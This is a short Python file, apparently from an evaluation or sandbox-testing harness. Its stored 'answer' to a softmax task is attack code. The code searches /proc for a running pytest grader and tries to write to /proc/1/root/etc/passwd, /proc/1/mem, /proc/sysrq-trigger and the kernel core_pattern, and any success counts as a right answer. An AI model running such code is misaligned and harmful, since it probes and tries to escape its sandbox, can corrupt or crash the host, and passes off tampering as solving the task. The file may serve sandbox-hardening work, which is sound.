"""Looks for the grader in /proc and writes to what rules the machine; a success shows as a right answer."""

from submitting import IF_WON, body

PROC = """
    import glob
    won = False
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            won = won or b"pytest" in open(path, "rb").read()
        except OSError:
            pass
    for path in ("/proc/1/root/etc/passwd", "/proc/1/mem", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern"):
        try:
            open(path, "r+b").write(b"x"); won = True
        except OSError:
            pass
"""
ANSWERS = {"softmax": body(PROC, IF_WON)}
